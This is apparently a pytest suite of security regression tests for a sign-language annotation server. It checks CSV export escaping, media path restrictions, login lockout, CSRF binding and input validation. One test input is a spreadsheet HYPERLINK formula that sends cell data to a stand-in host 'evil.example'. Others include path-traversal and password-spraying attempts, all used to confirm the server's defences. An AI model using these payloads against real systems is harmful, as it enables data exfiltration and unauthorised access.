"""Attacks on the annotation server that it used to let through: each as a test."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from signkit.annotate.loadtest import live_server
from signkit.annotate.models import LoginAttempt, WorkSession
from signkit.annotate.security import csrf_for
from signkit.annotate.web import CSRF_COOKIE, SESSION_COOKIE, create_app
from tests.annotate.conftest import PASSWORD, login

FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"click")'
HTML = {"accept": "text/html"}
JSON = {"content-type": "application/json"}


def _submit(client: TestClient, glosses: str) -> dict:
    got = client.post("/api/next").json()
    r = client.post("/api/submit", json={"session": got["session"], "glosses": glosses})
    assert r.status_code == 200, r.text
    return got


def test_csv_exports_for_people_neutralise_formulas_and_machine_exports_stay_exact(app, corpus, users,
                                                                                   tmp_path, media):
    ann = login(app, "ann")
    _submit(ann, FORMULA)
    _submit(ann, "+SUM(1) -2 @cmd")
    boss = login(app, "boss")
    rows = list(csv.DictReader(io.StringIO(boss.get("/admin/export/annotations.csv").text)))
    assert {r["glosses"] for r in rows} == {"'" + FORMULA, "'+SUM(1) -2 @cmd"}
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    exact = {a["glosses"] for a in json.loads(boss.get("/admin/export/annotations.json").text)}
    assert exact == {FORMULA, "+SUM(1) -2 @cmd"}
    manifest = list(csv.DictReader(io.StringIO(boss.get("/admin/export/manifest.csv").text)))
    assert {r["gloss"] for r in manifest} == exact  # training reads the glosses as typed
    cli = [sys.executable, "-m", "signkit.cli.app", "annotate", "export",
           "--db", str(corpus.engine.url.database), "--media", str(media)]
    if corpus.engine.dialect.name == "sqlite":
        out = tmp_path / "exports"
        subprocess.run([*cli, "-o", str(out / "a.csv")], check=True, capture_output=True)
        subprocess.run([*cli, "--format", "manifest", "-o", str(out / "m.csv")], check=True,
                       capture_output=True)
        assert "'=HYPERLINK" in (out / "a.csv").read_text()
        written = list(csv.DictReader((out / "m.csv").open()))
        assert {r["gloss"] for r in written} == exact
        # The manifest lives outside the media folder and still names the clips' files.
        assert all((out / r["video"]).resolve().is_file() for r in written)


def test_media_serves_clip_videos_only(app, users, media):
    (media / "manifest.csv").write_text("file,gloss\nclips/x.pose,SECRET\n")
    (media / ".git").mkdir()
    (media / ".git" / "config").write_text("[core]\n")
    (media / "clips" / "notes.txt").write_text("private")
    ann = login(app, "ann")
    clip = ann.post("/api/next").json()["clip"]
    assert ann.get(clip["url"]).status_code == 200
    for path in ("manifest.csv", ".git/config", "clips/notes.txt", "clips/%00.mp4", "clips/.hidden/x.mp4"):
        assert ann.get(f"/media/{path}").status_code == 404, path


def test_completion_never_shows_one_other_annotators_glosses(app, corpus, users):
    ann, bob = login(app, "ann"), login(app, "bob")
    _submit(ann, "ANN-ONLY SHARED")
    assert "ANN-ONLY" in ann.get("/api/vocabulary").json()["glosses"]
    assert bob.get("/api/vocabulary").json()["glosses"] == []
    _submit(bob, "SHARED BOB-ONLY")
    assert set(bob.get("/api/vocabulary").json()["glosses"]) == {"SHARED", "BOB-ONLY"}
    assert set(ann.get("/api/vocabulary").json()["glosses"]) == {"SHARED", "ANN-ONLY"}
    corpus.set_setting("vocabulary_min_annotators", "1")  # a team that chooses to share everything
    assert set(bob.get("/api/vocabulary").json()["glosses"]) == {"SHARED", "BOB-ONLY", "ANN-ONLY"}


def test_parallel_work_sessions_are_not_paid_twice_and_a_get_writes_nothing(app, corpus, clock, users):
    ann = login(app, "ann")
    _submit(ann, "A")
    aid = 1
    with corpus.sessions() as db:
        before = db.scalar(select(func.count()).select_from(WorkSession))
    for _ in range(40):
        assert ann.get(f"/mine/{aid}").status_code == 200
    with corpus.sessions() as db:
        assert db.scalar(select(func.count()).select_from(WorkSession)) == before
    # A reloaded edit page gets its open session back, not a new one.
    first = ann.post("/api/edit", json={"annotation": aid}).json()["session"]
    assert ann.post("/api/edit", json={"annotation": aid}).json()["session"] == first
    # However 40 open sessions came about (40 tabs), 12 s of wall time is paid as 12 s.
    hours0 = ann.get("/api/hours").json()["hours"]
    with corpus._write() as db:
        rows = [WorkSession(user_id=users["ann"].id, clip_id=2, kind="edit", started_at=clock.now,
                            last_seen_at=clock.now, active_seconds=0.0) for _ in range(39)]
        db.add_all(rows)
        db.flush()
        sessions = [first] + [w.id for w in rows]
    for _ in range(4):
        clock.advance(3)
        for s in sessions:
            assert ann.post("/api/heartbeat", json={"session": s}).status_code == 200
    credited = (ann.get("/api/hours").json()["hours"] - hours0) * 3600
    assert credited == pytest.approx(12, abs=0.01)


def test_failed_logins_lock_a_name_only_for_the_address_they_come_from(app, corpus, clock, users):
    attacker = TestClient(app, client=("203.0.113.7", 4000))
    attacker.get("/login")

    def attempt(client, password):
        return client.post("/login", data={"name": "boss", "password": password,
                                           "csrf_token": client.cookies[CSRF_COOKIE]}, follow_redirects=False)

    for _ in range(5):
        assert attempt(attacker, "wrong password").status_code == 401
    waits = []
    for _ in range(3):  # each further try waits twice as long
        r = attempt(attacker, "wrong password")
        assert r.status_code == 429
        waits.append(int(r.headers["Retry-After"]))
        clock.advance(waits[-1])
        assert attempt(attacker, "wrong password").status_code == 401
    assert waits == [30, 60, 120]
    admin = TestClient(app, client=("198.51.100.2", 5000))  # the real admin, elsewhere
    admin.get("/login")
    assert attempt(admin, PASSWORD).status_code == 303
    # Per address, whatever the names: 20 failures, then that address waits out the window.
    spray = TestClient(app, client=("192.0.2.9", 6000))
    spray.get("/login")
    for i in range(20):
        spray.post("/login", data={"name": f"user{i}", "password": "x" * 8,
                                   "csrf_token": spray.cookies[CSRF_COOKIE]})
    assert attempt(spray, PASSWORD).status_code == 429
    # Old attempts are purged.
    clock.advance(16 * 60)
    later = TestClient(app, client=("198.51.100.2", 5001))
    later.get("/login")
    assert attempt(later, PASSWORD).status_code == 303
    with corpus.sessions() as db:
        assert db.scalar(select(func.count()).select_from(LoginAttempt).where(
            LoginAttempt.at < clock.now - timedelta(minutes=15))) == 0


def test_x_forwarded_for_is_ignored_unless_a_proxy_is_named(corpus, db_url, media, users, tmp_path):
    if not db_url.endswith(".db"):
        pytest.skip("one database is enough for the server's own header handling")
    with live_server(db_url, media, log=tmp_path / "server.log") as (url, _):
        client = httpx.Client(base_url=url, timeout=30)
        client.get("/login")
        codes = []
        for i in range(7):
            r = client.post("/login", data={"name": "boss", "password": "wrong password",
                                            "csrf_token": client.cookies[CSRF_COOKIE]},
                            headers={"X-Forwarded-For": f"10.0.0.{i}"})
            codes.append(r.status_code)
        assert codes[:5] == [401] * 5 and codes[5] == 429  # one address, whatever the header says


def test_a_large_body_is_refused_before_it_is_read(app, users):
    anonymous = TestClient(app)
    r = anonymous.post("/api/submit", content=b"{" + b" " * (5 << 20) + b"}",
                       headers={"content-type": "application/json"})
    assert r.status_code == 413

    def chunks():
        for _ in range(100):
            yield b" " * 4096

    r = anonymous.post("/api/submit", content=chunks(), headers={"content-type": "application/json"})
    assert r.status_code == 413
    ann = login(app, "ann")
    got = ann.post("/api/next").json()
    assert ann.post("/api/submit", json={"session": got["session"], "glosses": "SMALL"}).status_code == 200


def test_bad_input_is_a_4xx_with_a_message_never_a_500(app, corpus, users):
    ann, boss = login(app, "ann"), login(app, "boss")
    big = 2**63
    got = ann.post("/api/next").json()
    checks = [
        ann.get(f"/mine/{big}"),
        ann.post(f"/mine/{big}", data={"glosses": "A"}),
        ann.post("/api/heartbeat", json={"session": big}),
        ann.post("/api/submit", json={"session": big, "glosses": "A"}),
        boss.post(f"/admin/users/{big}/active", data={"active": "false"}),
        boss.post(f"/admin/users/{big}/password", data={"password": "x" * 10}),
        ann.get("/media/clips/a%00b.mp4"),
        # A lone surrogate, as JSON escapes it (no client could encode it otherwise).
        ann.post("/api/submit", content=b'{"session": %d, "glosses": "A\\ud800B"}' % got["session"],
                 headers=JSON),
        ann.post("/api/skip", content=b'{"session": %d, "reason": "other", "note": "A\\ud800B"}'
                 % got["session"], headers=JSON),
        ann.get("/mine?q=%01"),
        boss.post("/admin/settings", data={"annotations_per_clip": "²"}),
        boss.get("/admin/pay", params={"end": "9999-12-31"}),
        boss.get("/admin/pay.csv", params={"end": "9999-12-31"}),
    ]
    assert ann.get("/mine?q=%ED%A0%80").status_code == 200  # invalid UTF-8 reads as U+FFFD
    for r in checks:
        assert 400 <= r.status_code < 500, (r.request.url, r.status_code, r.text[:200])
        assert r.text
    # HTML clients get the HTML error page, for the framework's own 404/405/422 too.
    for r in (ann.get("/no/such/page", headers=HTML), ann.put("/annotate", headers=HTML),
              ann.get(f"/mine/{big}", headers=HTML), ann.get("/mine/abc", headers=HTML)):
        assert 400 <= r.status_code < 500 and r.headers["content-type"].startswith("text/html"), r.text[:200]
    aid = ann.post("/api/submit", json={"session": got["session"], "glosses": "OK"}).json()["annotation_id"]
    r = ann.post(f"/mine/{aid}", content=b"glosses=A%ED%A0%80%00B",
                 headers={**HTML, "content-type": "application/x-www-form-urlencoded"})
    assert r.status_code == 422 and "control characters" in r.text


def test_clip_urls_are_percent_encoded(corpus, media, users, tmp_path):
    from signkit.annotate.importer import collect_sources, import_videos
    from signkit.annotate.sample import write_sample_lesson

    lesson = write_sample_lesson(tmp_path / "odd" / "a#b?c%d.mp4", seconds=1, seed=3)
    result = import_videos(corpus, collect_sources([lesson]), media, clip_seconds=1.0)
    assert not result.failed
    app = create_app(corpus, media)
    ann = login(app, "ann")
    urls = set()
    for _ in range(11):
        got = ann.post("/api/next").json()
        urls.add(got["clip"]["url"])
        ann.post("/api/submit", json={"session": got["session"], "glosses": "X"})
    odd = [u for u in urls if "a%23b%3Fc%25d" in u]
    assert odd and ann.get(odd[0]).status_code == 200


def test_the_database_file_is_private(db_url):
    if not db_url.endswith(".db"):
        pytest.skip("a file only with SQLite")
    from signkit.annotate.server import open_corpus

    corpus = open_corpus(db_url)
    corpus.create_user("someone", PASSWORD)
    for suffix in ("", "-wal", "-shm"):
        path = Path(db_url + suffix)
        if path.exists():
            assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, path


def test_the_csrf_token_is_bound_to_the_session(app, users):
    ann, bob = login(app, "ann"), login(app, "bob")
    assert ann.post("/api/next").status_code == 200
    # A token planted as the double-submit cookie, or another user's token, is worth nothing.
    bob.cookies.set(CSRF_COOKIE, "planted")
    assert bob.post("/api/next", headers={"X-CSRF-Token": "planted"}).status_code == 403
    assert bob.post("/api/next", headers={"X-CSRF-Token": ann.headers["X-CSRF-Token"]}).status_code == 403
    bound = csrf_for(bob.cookies[SESSION_COOKIE])
    assert bob.post("/api/next", headers={"X-CSRF-Token": bound}).status_code == 200
    assert f'data-csrf="{bound}"' in bob.get("/annotate").text
